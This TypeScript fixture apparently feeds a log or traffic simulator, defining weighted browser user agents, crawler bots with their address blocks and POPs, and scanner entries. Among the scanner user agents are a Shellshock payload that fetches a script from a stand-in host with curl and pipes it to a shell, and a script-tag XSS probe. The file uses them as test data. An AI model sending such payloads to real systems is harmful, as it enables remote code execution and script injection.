/**
 * Who sends the simulated requests: browsers (full, real user-agent strings, with their commas
 * and parentheses), named bots and crawlers with the networks they crawl from, and a few
 * scanners with the user agents they send.
 */

export type Device = 'desktop' | 'mobile' | 'tablet';

export interface BrowserAgent {
  readonly ua: string;
  readonly device: Device;
  /** Relative share of human visits. */
  readonly weight: number;
  /** Share of this browser's connections made over HTTP/3. */
  readonly http3: number;
}

const CHROME = '124.0.0.0';
const WEBKIT = 'AppleWebKit/537.36 (KHTML, like Gecko)';
const SAFARI_WEBKIT = 'AppleWebKit/605.1.15 (KHTML, like Gecko)';

export const BROWSERS = [
  {
    ua: `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${WEBKIT} Chrome/${CHROME} Safari/537.36`,
    device: 'desktop',
    weight: 24,
    http3: 0.2,
  },
  {
    ua: `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${WEBKIT} Chrome/${CHROME} Safari/537.36`,
    device: 'desktop',
    weight: 8,
    http3: 0.2,
  },
  {
    ua: `Mozilla/5.0 (X11; Linux x86_64) ${WEBKIT} Chrome/123.0.0.0 Safari/537.36`,
    device: 'desktop',
    weight: 2,
    http3: 0.2,
  },
  {
    ua: `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${WEBKIT} Chrome/${CHROME} Safari/537.36 Edg/124.0.0.0`,
    device: 'desktop',
    weight: 6,
    http3: 0.2,
  },
  {
    ua: `Mozilla/5.0 (Windows NT 10.0; Win64; x64) ${WEBKIT} Chrome/${CHROME} Safari/537.36 OPR/109.0.0.0`,
    device: 'desktop',
    weight: 1,
    http3: 0.1,
  },
  {
    ua: 'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:125.0) Gecko/20100101 Firefox/125.0',
    device: 'desktop',
    weight: 3,
    http3: 0.1,
  },
  {
    ua: 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:125.0) Gecko/20100101 Firefox/125.0',
    device: 'desktop',
    weight: 1,
    http3: 0.1,
  },
  {
    ua: 'Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    device: 'desktop',
    weight: 1,
    http3: 0.1,
  },
  {
    ua: `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) ${SAFARI_WEBKIT} Version/17.4.1 Safari/605.1.15`,
    device: 'desktop',
    weight: 6,
    http3: 0.15,
  },
  {
    ua: `Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) ${WEBKIT} Chrome/${CHROME} Safari/537.36`,
    device: 'desktop',
    weight: 0.5,
    http3: 0.2,
  },
  {
    ua: `Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) ${SAFARI_WEBKIT} Version/17.4.1 Mobile/15E148 Safari/604.1`,
    device: 'mobile',
    weight: 18,
    http3: 0.25,
  },
  {
    ua: `Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) ${SAFARI_WEBKIT} CriOS/124.0.6367.88 Mobile/15E148 Safari/604.1`,
    device: 'mobile',
    weight: 3,
    http3: 0.25,
  },
  {
    ua: `Mozilla/5.0 (iPhone; CPU iPhone OS 17_4_1 like Mac OS X) ${SAFARI_WEBKIT} Mobile/21E236 [FBAN/FBIOS;FBAV/460.0.0.40.108;FBBV/584023510;FBDV/iPhone15,2;FBMD/iPhone;FBSN/iOS;FBSV/17.4.1;FBSS/3;FBID/phone;FBLC/en_US;FBOP/5]`,
    device: 'mobile',
    weight: 1.5,
    http3: 0.1,
  },
  {
    ua: `Mozilla/5.0 (iPad; CPU OS 17_4 like Mac OS X) ${SAFARI_WEBKIT} Version/17.4 Mobile/15E148 Safari/604.1`,
    device: 'tablet',
    weight: 3,
    http3: 0.2,
  },
  {
    ua: `Mozilla/5.0 (Linux; Android 10; K) ${WEBKIT} Chrome/${CHROME} Mobile Safari/537.36`,
    device: 'mobile',
    weight: 15,
    http3: 0.3,
  },
  {
    ua: `Mozilla/5.0 (Linux; Android 14; SAMSUNG SM-S918B) ${WEBKIT} SamsungBrowser/24.0 Chrome/117.0.0.0 Mobile Safari/537.36`,
    device: 'mobile',
    weight: 3,
    http3: 0.2,
  },
  {
    ua: 'Mozilla/5.0 (Android 14; Mobile; rv:125.0) Gecko/125.0 Firefox/125.0',
    device: 'mobile',
    weight: 0.5,
    http3: 0.1,
  },
  {
    ua: `Mozilla/5.0 (Linux; Android 13; SM-X710) ${WEBKIT} Chrome/${CHROME} Safari/537.36`,
    device: 'tablet',
    weight: 1.5,
    http3: 0.3,
  },
] as const satisfies readonly BrowserAgent[];

/** What a bot does on a visit. */
export type BotBehaviour = 'crawler' | 'preview' | 'monitor' | 'script';

export interface BotNetwork {
  /** Address block (CIDR) the bot sends from. */
  readonly cidr: string;
  /** POPs that serve that network. */
  readonly pops: readonly string[];
}

export interface BotAgent {
  readonly name: string;
  readonly ua: string;
  /** Relative share of bot visits. */
  readonly weight: number;
  readonly behaviour: BotBehaviour;
  /** Requests in one visit: [min, max]. */
  readonly requests: readonly [number, number];
  /** Share of its requests sent as HEAD. */
  readonly head: number;
  /** Share of its requests sent over HTTP/2 (the rest are HTTP/1.1). */
  readonly http2: number;
  readonly networks: readonly BotNetwork[];
}

const US_EAST = ['IAD89-C1', 'IAD66-C2', 'JFK50-P2', 'EWR53-C2'] as const;
const US_WEST = ['SFO53-C1', 'SEA19-C1', 'LAX3-C4'] as const;
const US_CENTRAL = ['ORD52-C2', 'DFW56-P1'] as const;

export const BOTS = [
  {
    name: 'Googlebot',
    ua: `Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) ${WEBKIT} Chrome/124.0.6367.91 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)`,
    weight: 14,
    behaviour: 'crawler',
    requests: [1, 25],
    head: 0,
    http2: 0.6,
    networks: [
      { cidr: '66.249.64.0/19', pops: [...US_WEST, ...US_CENTRAL] },
      { cidr: '2001:4860:4801::/48', pops: US_WEST },
    ],
  },
  {
    name: 'Googlebot',
    ua: 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
    weight: 6,
    behaviour: 'crawler',
    requests: [1, 15],
    head: 0,
    http2: 0.5,
    networks: [{ cidr: '66.249.64.0/19', pops: [...US_WEST, ...US_CENTRAL] }],
  },
  {
    name: 'bingbot',
    ua: 'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
    weight: 8,
    behaviour: 'crawler',
    requests: [1, 20],
    head: 0,
    http2: 0.2,
    networks: [
      { cidr: '157.55.39.0/24', pops: US_WEST },
      { cidr: '40.77.167.0/24', pops: US_WEST },
      { cidr: '207.46.13.0/24', pops: US_WEST },
    ],
  },
  {
    name: 'AhrefsBot',
    ua: 'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)',
    weight: 7,
    behaviour: 'crawler',
    requests: [3, 40],
    head: 0,
    http2: 0,
    networks: [{ cidr: '54.36.148.0/23', pops: ['CDG52-P2', 'CDG50-C1'] }],
  },
  {
    name: 'SemrushBot',
    ua: 'Mozilla/5.0 (compatible; SemrushBot/7~bl; +http://www.semrush.com/bot.html)',
    weight: 5,
    behaviour: 'crawler',
    requests: [3, 30],
    head: 0,
    http2: 0,
    networks: [{ cidr: '185.191.171.0/24', pops: US_EAST }],
  },
  {
    name: 'GPTBot',
    ua: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)',
    weight: 6,
    behaviour: 'crawler',
    requests: [2, 40],
    head: 0,
    http2: 0.3,
    networks: [{ cidr: '20.171.206.0/24', pops: [...US_CENTRAL, ...US_EAST] }],
  },
  {
    name: 'ClaudeBot',
    ua: 'Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; ClaudeBot/1.0; +claudebot@anthropic.com)',
    weight: 5,
    behaviour: 'crawler',
    requests: [2, 40],
    head: 0,
    http2: 0.3,
    networks: [{ cidr: '216.73.216.0/22', pops: US_EAST }],
  },
  {
    name: 'facebookexternalhit',
    ua: 'facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)',
    weight: 4,
    behaviour: 'preview',
    requests: [1, 3],
    head: 0.05,
    http2: 0.3,
    networks: [
      { cidr: '69.63.176.0/20', pops: US_WEST },
      { cidr: '173.252.64.0/18', pops: US_EAST },
      { cidr: '2a03:2880::/32', pops: US_EAST },
    ],
  },
  {
    name: 'DuckDuckBot',
    ua: 'DuckDuckBot/1.1; (+http://duckduckgo.com/duckduckbot.html)',
    weight: 2,
    behaviour: 'crawler',
    requests: [1, 8],
    head: 0,
    http2: 0,
    networks: [{ cidr: '20.191.45.0/24', pops: US_EAST }],
  },
  {
    name: 'YandexBot',
    ua: 'Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)',
    weight: 3,
    behaviour: 'crawler',
    requests: [1, 12],
    head: 0,
    http2: 0,
    networks: [
      { cidr: '5.255.253.0/24', pops: ['HEL51-P6', 'HEL50-C2', 'FRA56-P5'] },
      { cidr: '213.180.203.0/24', pops: ['HEL51-P6', 'ARN54-C1'] },
    ],
  },
  {
    name: 'Applebot',
    ua: `Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_5) ${SAFARI_WEBKIT} Version/13.1.1 Safari/605.1.15 (Applebot/0.1; +http://www.apple.com/go/applebot)`,
    weight: 3,
    behaviour: 'crawler',
    requests: [1, 10],
    head: 0,
    http2: 0.5,
    networks: [{ cidr: '17.241.0.0/16', pops: US_WEST }],
  },
  {
    name: 'UptimeRobot',
    ua: 'Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)',
    weight: 9,
    behaviour: 'monitor',
    requests: [1, 1],
    head: 0.7,
    http2: 0,
    networks: [
      { cidr: '69.162.124.224/28', pops: ['DFW56-P1'] },
      { cidr: '63.143.42.240/28', pops: ['DFW56-P1'] },
    ],
  },
  {
    name: 'curl',
    ua: 'curl/8.5.0',
    weight: 4,
    behaviour: 'script',
    requests: [1, 3],
    head: 0.3,
    http2: 0.5,
    networks: [
      { cidr: '3.80.0.0/12', pops: US_EAST },
      { cidr: '5.9.0.0/16', pops: ['FRA56-P5', 'FRA60-P1'] },
    ],
  },
  {
    name: 'python-requests',
    ua: 'python-requests/2.31.0',
    weight: 4,
    behaviour: 'script',
    requests: [1, 6],
    head: 0.05,
    http2: 0,
    networks: [
      { cidr: '34.192.0.0/12', pops: US_EAST },
      { cidr: '88.198.0.0/16', pops: ['FRA56-P5', 'FRA60-P1'] },
    ],
  },
  {
    name: 'Go-http-client',
    ua: 'Go-http-client/1.1',
    weight: 3,
    behaviour: 'script',
    requests: [1, 6],
    head: 0.2,
    http2: 0,
    networks: [
      { cidr: '159.65.0.0/16', pops: [...US_EAST, 'AMS54-C1'] },
      { cidr: '49.12.0.0/15', pops: ['FRA56-P5', 'FRA60-P1'] },
    ],
  },
] as const satisfies readonly BotAgent[];

export interface Scanner {
  readonly ip: string;
  /** POP that serves the scanner. */
  readonly pop: string;
  /** User agents it rotates through; null sends no User-Agent header at all. */
  readonly agents: readonly (string | null)[];
}

/**
 * Scanners probe for well-known weak spots from a few addresses. Their user agents are
 * attacker-controlled text: some carry payloads meant to break a log viewer.
 */
export const SCANNERS = [
  {
    ip: '45.148.10.242',
    pop: 'AMS54-C1',
    agents: [
      null,
      'Mozilla/5.0 zgrab/0.x',
      'Mozilla/5.0 (l9scan/2.0.9303e2235313e24363e2938353; +https://leakix.net)',
    ],
  },
  {
    ip: '218.92.0.107',
    pop: 'HKG62-C1',
    agents: [
      `Mozilla/5.0 (Windows NT 6.1; Win64; x64) ${WEBKIT} Chrome/78.0.3904.108 Safari/537.36`,
      '() { :; }; /bin/bash -c "curl http://203.0.113.9/x.sh | sh"',
    ],
  },
  {
    ip: '167.94.138.35',
    pop: 'ORD52-C2',
    agents: ['Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)'],
  },
  {
    ip: '193.41.206.117',
    pop: 'WAW51-P4',
    agents: [
      'Nuclei - Open-source project (github.com/projectdiscovery/nuclei)',
      '<script>alert(1)</script>',
    ],
  },
  {
    ip: '2a01:4f8:c012:3d5b::1',
    pop: 'FRA56-P5',
    agents: [`Mozilla/5.0 (X11; Linux x86_64) ${WEBKIT} Chrome/91.0.4472.114 Safari/537.36`],
  },
] as const satisfies readonly Scanner[];
